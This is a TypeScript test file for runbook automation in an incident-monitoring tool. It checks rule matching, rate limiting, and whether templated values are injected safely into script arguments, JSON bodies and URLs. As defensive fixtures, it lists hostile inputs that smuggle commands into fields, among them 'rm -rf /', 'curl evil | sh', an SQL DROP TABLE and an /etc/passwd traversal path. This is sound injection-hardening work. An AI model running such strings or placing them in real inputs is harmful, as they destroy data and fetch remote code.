// Runbook rules: matching on application, severity, metric kind, event class, recommendation and
// transition type; templates substituted as data (argv elements, JSON strings, URL components).
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';

import {
  describeAction,
  planRunbookAction,
  renderArgv,
  renderJsonBody,
  renderUrl,
  runbookMatches,
  runbookRateLimited,
  templateProblem,
  templateValues,
  bodyTemplateProblem,
  type RunbookContext,
  type RunbookRule,
} from '../../../src/core/notify/index.js';
import type { Insight } from '../../../src/core/model/index.js';

const INSIGHT: Insight = {
  id: 'ins-42', type: 'REACTIVE', name: 'p99 latency rose on checkout-api after deployment v2.3.1', severity: 'HIGH', status: 'ONGOING', application: 'shop',
  startMs: 1_800_000_000_000, endMs: null, updatedMs: 1_800_000_060_000, resources: ['service:checkout-api'], anomalyIds: ['a1'], eventIds: ['e1'],
  rootCauses: [], recommendations: [{ id: 'rollback-deployment', title: 'Roll back', description: '', reason: '', links: [], relatedEventIds: [], relatedAnomalyIds: [] }], prediction: null,
};
const CTX: RunbookContext = { transition: 'NEW_INSIGHT', insight: INSIGHT, anomalies: [{ kind: 'latency' }], events: [{ class: 'DEPLOYMENT' }] };
const HOSTILE = ['$(rm -rf /)', '; reboot', '`touch /tmp/pwned`', '" && curl evil | sh #', "'; DROP TABLE x;--", 'a\nb', '{{insight.id}}', '../../etc/passwd?x=1#f'];

function rule(over: Partial<RunbookRule> = {}): RunbookRule {
  return { name: 'rollback', match: {}, action: { script: { path: 'rollback.sh', args: ['{{insight.application}}'] } }, timeoutMs: 30_000, rateLimit: { max: 1, perMs: 3_600_000 }, ...over };
}

describe('runbook matching', () => {
  it('an empty match fires on NEW_INSIGHT only (act once, when the insight opens)', () => {
    assert.equal(runbookMatches(rule(), CTX), true);
    assert.equal(runbookMatches(rule(), { ...CTX, transition: 'NEW_ASSOCIATION' }), false);
    assert.equal(runbookMatches(rule({ match: { types: ['CLOSED_INSIGHT'] } }), { ...CTX, transition: 'CLOSED_INSIGHT' }), true);
  });

  it('every condition must hold', () => {
    const yes = { application: 'shop', severity: 'MEDIUM', metricKind: 'latency', eventClass: 'DEPLOYMENT', recommendationId: 'rollback-deployment' } as const;
    assert.equal(runbookMatches(rule({ match: yes }), CTX), true);
    assert.equal(runbookMatches(rule({ match: { ...yes, application: 'payments' } }), CTX), false);
    assert.equal(runbookMatches(rule({ match: { severity: 'HIGH' } }), { ...CTX, insight: { ...INSIGHT, severity: 'MEDIUM' } }), false);
    assert.equal(runbookMatches(rule({ match: { metricKind: 'errors' } }), CTX), false);
    assert.equal(runbookMatches(rule({ match: { eventClass: 'CONFIG_CHANGE' } }), CTX), false);
    assert.equal(runbookMatches(rule({ match: { recommendationId: 'scale-out' } }), CTX), false);
    assert.equal(runbookMatches(rule({ match: { application: 'shop' } }), { ...CTX, insight: { ...INSIGHT, application: null } }), false);
  });
});

describe('runbook templates', () => {
  it('knows its fields and names an unknown one', () => {
    assert.equal(templateProblem('{{insight.id}} {{ insight.name }} {{transition.type}}'), null);
    assert.match(templateProblem('{{insight.labels}}') ?? '', /unknown template field "\{\{insight.labels\}\}"/);
    assert.match(bodyTemplateProblem({ a: [{ b: '{{env.HOME}}' }] }) ?? '', /env\.HOME/);
    assert.equal(bodyTemplateProblem({ a: [1, null, '{{insight.id}}'] }), null);
  });

  it('each script argument is exactly one argv element holding the value verbatim, whatever it contains (property)', () => {
    fc.assert(
      fc.property(fc.oneof(fc.constantFrom(...HOSTILE), fc.string({ unit: 'grapheme', maxLength: 40 })), (app) => {
        const values = templateValues({ ...CTX, insight: { ...INSIGHT, application: app } }, 'r');
        const argv = renderArgv(['{{insight.application}}', '--id={{insight.id}}', 'plain'], values);
        return argv.length === 3 && argv[0] === app && argv[1] === '--id=ins-42' && argv[2] === 'plain';
      }),
    );
  });

  it('substitutes once: a value that looks like a template stays text', () => {
    const values = templateValues({ ...CTX, insight: { ...INSIGHT, name: '{{insight.id}}' } }, 'r');
    assert.deepEqual(renderArgv(['{{insight.name}}'], values), ['{{insight.id}}']);
  });

  it('JSON bodies: values are JSON strings, so they cannot add keys or close a string (property)', () => {
    fc.assert(
      fc.property(fc.oneof(fc.constantFrom(...HOSTILE), fc.string({ maxLength: 40 })), (name) => {
        const values = templateValues({ ...CTX, insight: { ...INSIGHT, name } }, 'r');
        const fromObject = JSON.parse(renderJsonBody({ reason: 'Vigil: {{insight.name}}', prune: false, n: 1 }, values)) as Record<string, unknown>;
        const fromString = JSON.parse(renderJsonBody('{"reason": {{insight.name}}, "app": {{insight.application}}}', values)) as Record<string, unknown>;
        return (
          fromObject.reason === `Vigil: ${name}` && fromObject.prune === false && Object.keys(fromObject).length === 3 &&
          fromString.reason === name && fromString.app === 'shop' && Object.keys(fromString).length === 2
        );
      }),
    );
  });

  it('URLs: values are percent-encoded and stay in their path segment', () => {
    const values = templateValues({ ...CTX, insight: { ...INSIGHT, application: '../../etc/passwd?x=1#f' } }, 'r');
    const url = new URL(renderUrl('https://argocd.example.com/api/v1/applications/{{insight.application}}/rollback', values));
    assert.equal(url.host, 'argocd.example.com');
    assert.equal(url.search, '');
    assert.equal(url.hash, '');
    assert.equal(url.pathname.split('/').length, 6);
    assert.equal(decodeURIComponent(url.pathname.split('/')[4]!), '../../etc/passwd?x=1#f');
  });

  it('plans a script with argv and VIGIL_* environment, and an HTTP call with a JSON body', () => {
    const hostile = { ...CTX, insight: { ...INSIGHT, application: '$(rm -rf /)', name: '; reboot' } };
    const script = planRunbookAction(rule({ action: { script: { path: 'rollback.sh', args: ['{{insight.application}}', '{{insight.name}}'] } } }), hostile, true);
    assert.equal(script.kind, 'script');
    if (script.kind !== 'script') return;
    assert.deepEqual(script.argv, ['$(rm -rf /)', '; reboot']);
    assert.equal(script.env.VIGIL_INSIGHT_APPLICATION, '$(rm -rf /)');
    assert.equal(script.env.VIGIL_INSIGHT_NAME, '; reboot');
    assert.equal(script.env.VIGIL_DRY_RUN, '1');
    assert.deepEqual(JSON.parse(script.env.VIGIL_INSIGHT_JSON!), hostile.insight);
    assert.equal(describeAction(script), JSON.stringify(['rollback.sh', '$(rm -rf /)', '; reboot']));

    const http = planRunbookAction(
      rule({ action: { http: { method: 'post', url: 'https://argocd.example.com/api/v1/applications/{{insight.application}}/rollback', body: { id: 0, name: '{{insight.application}}' }, headers: { 'x-team': 'sre' }, bearerTokenEnv: 'ARGOCD_TOKEN' } } }),
      hostile,
      false,
    );
    assert.equal(http.kind, 'http');
    if (http.kind !== 'http') return;
    assert.equal(http.method, 'POST');
    assert.equal(http.url, 'https://argocd.example.com/api/v1/applications/%24(rm%20-rf%20%2F)/rollback');
    assert.deepEqual(JSON.parse(http.body!), { id: 0, name: '$(rm -rf /)' });
    assert.deepEqual(http.headers, { 'content-type': 'application/json', 'x-team': 'sre' });
    assert.equal(http.bearerTokenEnv, 'ARGOCD_TOKEN');
    assert.equal(describeAction(http), `POST ${http.url}`);
  });
});

describe('runbook rate limit', () => {
  it('counts runs inside the window only', () => {
    const now = 10_000_000;
    assert.equal(runbookRateLimited([], { max: 1, perMs: 60_000 }, now), false);
    assert.equal(runbookRateLimited([now - 59_999], { max: 1, perMs: 60_000 }, now), true);
    assert.equal(runbookRateLimited([now - 60_000], { max: 1, perMs: 60_000 }, now), false);
    assert.equal(runbookRateLimited([now - 10, now - 20], { max: 3, perMs: 60_000 }, now), false);
    assert.equal(runbookRateLimited([now - 10, now - 20, now - 30], { max: 3, perMs: 60_000 }, now), true);
  });
});
